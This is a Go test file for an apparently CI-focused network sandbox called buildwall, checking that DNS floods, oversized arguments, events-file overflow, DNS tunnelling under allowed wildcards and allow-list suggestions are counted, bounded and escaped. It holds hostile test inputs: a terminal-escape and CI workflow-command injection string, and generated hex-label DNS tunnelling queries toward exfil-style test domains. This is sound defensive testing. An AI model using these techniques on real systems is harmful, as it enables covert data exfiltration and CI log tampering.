package session

import (
	"bytes"
	"crypto/rand"
	"encoding/hex"
	"fmt"
	"net"
	"os"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/miekg/dns"

	"github.com/buildwall/buildwall/internal/event"
	"github.com/buildwall/buildwall/internal/policy"
	"github.com/buildwall/buildwall/internal/report"
)

// init makes the test binary a resource-hungry build step when its first
// argument is "__res" (before TestMain, so the shared helper needs no
// change):
//
//	__res flood N          send N TXT queries without waiting for answers
//	__res ask QTYPE NAME…  ask each name in turn, print "RCODE NAME" lines
//	__res hexask QTYPE N SUFFIX  ask N names of three short hex labels under SUFFIX
func init() {
	if len(os.Args) > 1 && os.Args[1] == "__res" {
		os.Exit(resHelper(os.Args[2:]))
	}
}

// anyDNS is where the helper sends queries: every address is redirected
// to buildwall's DNS server.
const anyDNS = "192.0.2.53:53"

func resHelper(args []string) int {
	switch args[0] {
	case "flood":
		n, _ := strconv.Atoi(args[1])
		c, err := net.Dial("udp", anyDNS)
		if err != nil {
			return 4
		}
		for i := range n {
			m := new(dns.Msg)
			m.SetQuestion(fmt.Sprintf("f%d.flood.test.", i), dns.TypeTXT)
			b, _ := m.Pack()
			c.Write(b)
		}
		time.Sleep(time.Second) // the socket stays for attribution
		c.Close()
		fmt.Println("flooded", n)
		return 0
	case "ask", "hexask":
		qt := dns.StringToType[args[1]]
		names := args[2:]
		if args[0] == "hexask" {
			n, _ := strconv.Atoi(args[2])
			names = nil
			for range n {
				b := make([]byte, 30)
				rand.Read(b)
				h := hex.EncodeToString(b)
				names = append(names, h[:20]+"."+h[20:40]+"."+h[40:]+"."+args[3])
			}
		}
		cl := &dns.Client{Timeout: 5 * time.Second}
		for _, name := range names {
			m := new(dns.Msg)
			m.SetQuestion(dns.Fqdn(name), qt)
			r, _, err := cl.Exchange(m, anyDNS)
			if err != nil {
				fmt.Println("ERROR", name)
				continue
			}
			fmt.Println(dns.RcodeToString[r.Rcode], name)
		}
		return 0
	}
	return 2
}

func resArgs(args ...string) []string { return append([]string{os.Args[0], "__res"}, args...) }

// hostileArg is what a build puts in its argv to take over a terminal or
// a CI log: escape sequences, line breaks and workflow commands.
const hostileArg = "\x1b[2J\x1b]0;owned\a\n::notice title=owned::injected\r\n::add-mask::x"

// TestBypassResources is the table of ways a build can try to exhaust,
// blind or abuse buildwall's bookkeeping: each must end counted, bounded
// and escaped.
func TestBypassResources(t *testing.T) {
	huge := []string{}
	for range 8 {
		huge = append(huge, strings.Repeat("A", 128<<10-1))
	}
	for _, tc := range []struct {
		name   string
		policy string
		args   []string
		mod    func(*Options)
		check  func(t *testing.T, oc outcome, summary, md string, w *world)
	}{
		{
			name:   "dns_flood_counted",
			policy: blockPolicy,
			args:   resArgs("flood", "30000"),
			check: func(t *testing.T, oc outcome, _, _ string, _ *world) {
				n := 0
				for _, e := range oc.events {
					if strings.HasSuffix(e.Name, "flood.test") {
						n += max(e.Count, 1)
					}
				}
				l := oc.report.Limits
				t.Logf("30000 queries: %d events, %d dropped and counted", n, l.DNSDropped)
				if n+l.DNSDropped != 30000 {
					t.Errorf("events %d + dropped %d != 30000 queries sent", n, l.DNSDropped)
				}
			},
		},
		{
			name:   "huge_argv_truncated",
			policy: blockPolicy,
			args:   append(resArgs("ask", "A", "evil.test"), huge...),
			check: func(t *testing.T, oc outcome, summary, _ string, _ *world) {
				got := find(oc.stream, event.Event{Kind: event.KindDNS, Name: "evil.test"})
				if len(got) == 0 {
					t.Fatal("no event for the lookup")
				}
				for _, e := range got {
					if len(e.Cmdline) > event.MaxCmdline || e.Truncated != "cmdline" || !strings.HasPrefix(e.Cmdline, os.Args[0]) {
						t.Errorf("cmdline %d bytes, truncated %q", len(e.Cmdline), e.Truncated)
					}
				}
				if len(summary) > 8<<10 {
					t.Errorf("summary of %d bytes", len(summary))
				}
			},
		},
		{
			name:   "argv_escaped_in_summaries",
			policy: blockPolicy,
			// A short program path, so the summary's 60 bytes of
			// command line reach the hostile argument.
			args: append([]string{shortExe(t)}, resArgs("ask", "A", "evil.test", hostileArg)[1:]...),
			check: func(t *testing.T, oc outcome, summary, md string, _ *world) {
				for what, out := range map[string]string{"stderr summary": summary, "step summary": md} {
					if !strings.Contains(out, "evil.test") {
						t.Errorf("%s does not name the blocked lookup", what)
					}
					for i, line := range strings.Split(out, "\n") {
						if strings.ContainsAny(line, "\x1b\r\a") || strings.HasPrefix(strings.TrimLeft(line, " |>`"), "::") {
							t.Errorf("%s line %d not escaped: %q", what, i+1, line)
						}
					}
				}
				if !strings.Contains(summary, `\x1b[2J`) {
					t.Errorf("stderr summary lacks the escaped argv:\n%s", summary)
				}
			},
		},
		{
			name:   "events_file_cap",
			policy: blockPolicy,
			args:   resArgs("hexask", "A", "300", "spray.test"),
			mod:    func(o *Options) { o.Recorder.MaxStreamBytes = 16 << 10 },
			check: func(t *testing.T, oc outcome, _, _ string, _ *world) {
				if len(oc.stream) == 0 || oc.stream[len(oc.stream)-1].Kind != event.KindTruncated {
					t.Fatalf("stream does not end with a truncation record")
				}
				l := oc.report.Limits
				if !l.EventsFileTruncated || l.EventsNotWritten == 0 || l.EventsFileBytes > 16<<10 {
					t.Errorf("limits %+v", l)
				}
				n := 0
				for _, e := range oc.events {
					if strings.HasSuffix(e.Name, "spray.test") {
						n += max(e.Count, 1)
					}
				}
				if n != 300 || oc.report.Summary.Counts.Blocked < 300 {
					t.Errorf("report holds %d of 300 lookups, counts %d blocked", n, oc.report.Summary.Counts.Blocked)
				}
			},
		},
		{
			name:   "tunnel_txt_short_labels_under_wildcard",
			policy: "mode: block\nallow: [\"*.allowed.test\"]\n",
			args:   resArgs("hexask", "TXT", "45", "t.allowed.test"),
			check: func(t *testing.T, oc outcome, _, _ string, w *world) {
				refused := find(oc.events, event.Event{Kind: event.KindDNS, Verdict: event.VerdictBlock, Reason: "bytes of unique query names under allowed.test"})
				if len(refused) == 0 {
					t.Fatalf("45 short-hex TXT queries under an allowed wildcard: none refused\n%s", dumpEvents(oc.events))
				}
				if !strings.Contains(oc.out, "NXDOMAIN") {
					t.Errorf("the build did not see a refusal:\n%s", oc.out)
				}
				queries, _, _ := w.snapshot()
				for _, e := range refused {
					for _, q := range queries {
						if q == e.Name {
							t.Errorf("refused name %s was asked upstream", q)
						}
					}
				}
			},
		},
		{
			name:   "tunnel_a_queries_under_wildcard_audit",
			policy: "mode: audit\nallow: [\"*.allowed.test\"]\ndns:\n  tunnel-limit: 1024\n",
			args:   resArgs("hexask", "A", "20", "x.allowed.test"),
			check: func(t *testing.T, oc outcome, _, _ string, _ *world) {
				if len(find(oc.events, event.Event{Kind: event.KindDNS, Verdict: event.VerdictAudit, Reason: "(limit 1024)"})) == 0 {
					t.Errorf("no audit flag with the policy's tunnel-limit 1024\n%s", dumpEvents(oc.events))
				}
			},
		},
		{
			name:   "suggest_stays_honest",
			policy: "mode: audit\nallow: [allowed.test]\n",
			args: []string{"sh", "-c", strings.Join([]string{
				shellQuote(resArgs("ask", "A", "*.com", "npm", "github")...),
				shellQuote(resArgs("hexask", "TXT", "40", "t.exfil.test")...),
				shellQuote(helperArgs("get", "https://tls.test/", "evil.test")...),
				shellQuote(helperArgs("get", "http://allowed.test/")...),
				"true",
			}, "; ")},
			check: func(t *testing.T, oc outcome, _, _ string, _ *world) {
				sug := report.Suggest(oc.report, policy.Env{})
				allow := strings.Join(sug.Spec.Allow, " ")
				for _, bad := range []string{"*", "npm", "github", "exfil", "evil.test", "tls.test"} {
					if strings.Contains(allow, bad) {
						t.Errorf("suggested allow %q contains %q", allow, bad)
					}
				}
				if allow != "allowed.test:80" {
					t.Errorf("suggested allow = %q, want allowed.test:80", allow)
				}
				seen := map[string]string{}
				for _, n := range sug.NotSuggested {
					seen[n.Name] = n.Why
				}
				for _, name := range []string{"*.com", "npm", "github"} {
					if seen[name] == "" {
						t.Errorf("%s not listed as seen, not suggested: %v", name, sug.NotSuggested)
					}
				}
				tunnel := false
				for n, why := range seen {
					tunnel = tunnel || strings.HasSuffix(n, "t.exfil.test") && strings.Contains(why, "tunnelling")
				}
				if !tunnel {
					t.Errorf("no tunnelling name listed: %v", sug.NotSuggested)
				}
			},
		},
	} {
		t.Run(tc.name, func(t *testing.T) {
			w := newWorld(t)
			var summary, md bytes.Buffer
			oc := w.run(t, tc.policy, tc.args, func(o *Options) {
				o.Summary, o.StepSummary = &summary, &md
				if tc.mod != nil {
					tc.mod(o)
				}
			})
			if oc.res == nil || oc.report == nil {
				t.Fatalf("run failed: %v", oc.err)
			}
			if oc.report.Limits == nil {
				t.Fatal("report without limits")
			}
			tc.check(t, oc, summary.String(), md.String(), w)
		})
	}
}

// shortExe links the test binary at a short path.
func shortExe(t *testing.T) string {
	t.Helper()
	dir, err := os.MkdirTemp("", "r")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	os.Chmod(dir, 0o755)
	p := dir + "/t"
	if err := os.Symlink(os.Args[0], p); err != nil {
		t.Fatal(err)
	}
	return p
}

func shellQuote(args ...string) string {
	q := make([]string, len(args))
	for i, a := range args {
		q[i] = "'" + strings.ReplaceAll(a, "'", `'\''`) + "'"
	}
	return strings.Join(q, " ")
}
